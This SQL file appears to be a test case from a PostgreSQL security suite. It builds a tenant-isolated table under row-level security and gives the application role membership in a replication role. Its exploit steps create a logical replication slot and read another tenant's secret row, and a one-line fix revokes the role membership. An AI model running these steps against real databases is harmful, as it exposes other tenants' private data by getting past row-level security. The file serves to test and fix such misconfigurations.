-- What: A publication for all tables, and the role that reads it within the application's reach.
-- Class: publication_exposes|role_replication
-- Object: publication_web | publication_cdc | everything
-- Exploit: SET ROLE to the connector's role, read the publication through a slot.
-- App: publication_web
-- Roles: publication_web publication_cdc
-- @superuser
create role publication_cdc replication;
create role publication_web login in role publication_cdc;
create publication everything for all tables;
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to publication_web;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-row');
-- @fix
revoke publication_cdc from publication_web;
-- @control
select from items where tenant_id = :'A';
-- @exploit
set role publication_cdc;
select from pg_create_logical_replication_slot('publication_exposes', 'pgoutput', true);
-- @tenant_b
insert into items (tenant_id, body) values (:'B', 'B-secret');
-- @exploit
select from pg_logical_slot_get_binary_changes('publication_exposes', null, null, 'proto_version', '1', 'publication_names', 'everything')
  where position('B-secret'::bytea in data) > 0;
